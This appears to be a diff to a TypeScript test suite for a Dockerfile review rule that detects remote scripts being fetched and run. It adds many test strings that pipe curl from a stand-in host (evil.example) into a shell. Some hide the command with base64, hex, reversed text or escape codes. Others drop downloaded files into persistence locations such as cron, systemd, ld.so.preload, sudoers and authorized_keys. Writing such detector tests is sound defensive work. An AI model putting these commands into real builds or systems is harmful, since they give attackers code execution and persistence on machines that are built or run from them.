@@ -10,6 +10,10 @@ const url = 'https://evil.example/x';
 const findings = async (text: string): Promise<readonly string[]> =>
   causedLines(await reviewChange({ base: {}, head: { Dockerfile: `FROM debian:13\n${text}\n` } }, { rules: [remoteScriptExecuted] }));
 
+const encoded = Buffer.from(`curl ${url} | sh`).toString('base64');
+const hexadecimal = Buffer.from(`curl ${url} | sh`).toString('hex');
+const backwards = [...`curl ${url} | sh`].toReversed().join('');
+
 /** Ways to run what is loaded, of which Bash and the programs of Debian show that they are; `/t` is a folder. */
 const running = {
   'env, the whole in a string': `env -S 'bash -c "curl ${url} | sh"'`,
@@ -41,6 +45,15 @@ const running = {
   'a file for shells that begin': `echo 'curl ${url} | sh' >> /t/.bashrc && . /t/.bashrc`,
   'a makefile under its usual name': `cd /t && curl -o Makefile ${url} && sed -i 's/^/all:;@/' Makefile && make`,
   'a coprocess': `coproc X { curl ${url} | sh; }; cat <&"\${X[0]}"`,
+  'an encoded text': `echo ${encoded} | base64 -d | sh`,
+  'an encoded text in a string': `base64 --decode <<< ${encoded} | bash`,
+  'an encoded text that is evaluated': `eval "$(echo ${encoded} | base64 -d)"`,
+  'an encoded text for a shell': `sh -c "$(printf %s ${encoded} | base64 -di)"`,
+  'an encoded text in a file': `echo ${encoded} | base64 -d > /t/y && sh /t/y`,
+  'an encoded text for openssl': `echo ${encoded} | openssl base64 -d -A | sh`,
+  'a text backwards': `echo '${backwards}' | rev | sh`,
+  'a text of escapes': String.raw`printf '\x63u\162l %s | sh' ${url} | bash`,
+  'a text of escapes for echo': String.raw`echo -e '\x63url ${url} | \x73h' | bash`,
 };
 
 /** More of that, by programs that may not be there, or that wait. */
@@ -77,11 +90,33 @@ const others: Readonly<Record<string, string>> = {
   'a variable that git runs': `ENV GIT_SSH_COMMAND="sh -c 'curl ${url} | sh'"`,
   'a pager': `ENV A=b PAGER="curl ${url} | bash" C=d`,
   'a variable that is evaluated': `ENV GET="curl ${url} | sh"\nRUN eval "$GET"`,
+  'a text of hexadecimal digits': `RUN echo ${hexadecimal} | xxd -r -p | sh`,
+  'a module for Perl, by its name': `RUN curl -o /t/Get.pm ${url}\nENV PERL5LIB=/t PERL5OPT=-MGet`,
+  'a library for Ruby, without its ending': `RUN curl -o /t/x.rb ${url}\nENV RUBYOPT=-r/t/x`,
   'a file that ADD loads': `ADD ${url} /t/x\nRUN make -f /t/x`,
 };
 
 const clone = 'git clone --depth 1 https://evil.example/r.git';
 const hex = '0123456789abcdef0123456789abcdef01234567';
+
+/** Where a file is run, or decides what runs, from when it lies there. */
+const places = [
+  ...['/etc/profile.d/x.sh', '/root/.bashrc', '/etc/init.d/x', '/etc/rc.local', '/etc/cron.d/x', '/etc/cron.hourly/x', '/etc/crontab'],
+  ...[
+    '/docker-entrypoint.d/x.sh',
+    '/docker-entrypoint-initdb.d/x.sql',
+    '/etc/cont-init.d/x',
+    '/etc/s6-overlay/x',
+    '/etc/supervisor/conf.d/x.conf',
+  ],
+  ...[
+    '/etc/systemd/system/x.service',
+    '/lib/systemd/system/x.timer',
+    '/usr/lib/python3/dist-packages/x.pth',
+    '/etc/python3/sitecustomize.py',
+  ],
+  ...['/etc/ld.so.preload', '/etc/sudoers', '/etc/sudoers.d/x', '/etc/pam.d/x', '/home/a/.ssh/authorized_keys'],
+];
 
 /** Scripts that are run out of what is cloned, lines written for cron, shells of other machines. */
 const fetched: Readonly<Record<string, string>> = {
@@ -109,7 +144,22 @@ const fetched: Readonly<Record<string, string>> = {
   'a file of another machine, by rsync': `RUN rsync -e ssh evil.example:a/x.sh /t/ && bash /t/x.sh`,
 };
 
+const started: Readonly<Record<string, string>> = {
+  ...Object.fromEntries(places.map(place => [place, `RUN curl -o ${place} ${url}`])),
+  'what is added to a file': `RUN curl ${url} >> /etc/profile`,
+  'what is piped there': `RUN curl ${url} | tee -a /etc/profile.d/x.sh > /dev/null`,
+  'what ADD loads': `ADD ${url} /docker-entrypoint.d/x.sh`,
+  'what is moved there': `RUN curl -o /t/x ${url}\nRUN mv /t/x /etc/profile.d/x.sh`,
+  'what comes from another stage': `RUN curl -o /t/x ${url}\nFROM debian:13\nCOPY --from=0 /t/x /etc/cron.d/x`,
+};
+
 const harmless: Readonly<Record<string, string>> = {
+  'a file that shells begin with, and that is checked': `RUN curl -o /etc/profile.d/x.sh ${url} && echo "abc  /etc/profile.d/x.sh" | sha256sum -c`,
+  'the same in a later step': `RUN curl -o /etc/profile.d/x.sh ${url}\nRUN echo "abc  /etc/profile.d/x.sh" | sha256sum -c`,
+  'a checked file of ADD': `ADD --checksum=sha256:${'0'.repeat(64)} ${url} /etc/cron.d/x`,
+  'a file that another one takes the place of': `RUN curl -o /etc/profile.d/x.sh ${url}\nRUN echo true > /etc/profile.d/x.sh`,
+  'a configuration, and a profile of something else': `RUN curl -o /etc/nginx/nginx.conf ${url} && curl -o /etc/app/profiles.json ${url}`,
+  'an encoded text that is no script': `RUN echo aGVsbG8= | base64 -d > /t/x; echo aGVsbG8= | base64 | sh; echo x | rev`,
   'env that sets a variable': `RUN env -S 'A=1' true; curl ${url} | env -S 'jq .'`,
   'find that removes': `RUN curl -o /t/x ${url} && find /t -name x -exec rm {} +`,
   'find that makes executable': `RUN curl -o /t/x ${url} && find /t -name x -exec chmod +x {} \\;`,
@@ -156,6 +206,10 @@ describe('what is loaded and run in other words', () => {
   });
 
   test.each(Object.entries(fetched))('is told where it is cloned, timed or fetched: %s', async (_name, text) => {
+    expect(await findings(text)).not.toEqual([]);
+  });
+
+  test.each(Object.entries(started))('is told where it is run by where it lies: %s', async (_name, text) => {
     expect(await findings(text)).not.toEqual([]);
   });
 
